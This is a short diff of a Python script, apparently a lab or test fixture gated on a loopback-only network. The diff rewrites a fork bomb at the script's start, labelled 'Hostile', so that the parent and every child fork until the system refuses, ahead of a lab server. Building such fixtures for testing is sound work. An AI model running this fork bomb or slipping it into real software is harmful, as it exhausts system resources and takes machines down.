@@ -1,5 +1,5 @@
-# Hostile: a fork bomb at start (each process forks until refused), then
-# the lab's 2.1 server.
+# Hostile: a fork bomb at start (it and every child fork until refused),
+# then the lab's 2.1 server.
 import os
 import sys
 
@@ -11,12 +11,18 @@ if interfaces != ["lo"]:
 
 import time
 
-if os.fork() == 0:
-    while True:
-        try:
-            os.fork()
-        except OSError:
-            time.sleep(0.05)
+# Forks until the system refuses; every child forks too, then sleeps.
+while True:
+    try:
+        pid = os.fork()
+    except OSError:
+        break
+    if pid == 0:
+        while True:
+            try:
+                os.fork()
+            except OSError:
+                time.sleep(3600)
 
 import socket
 
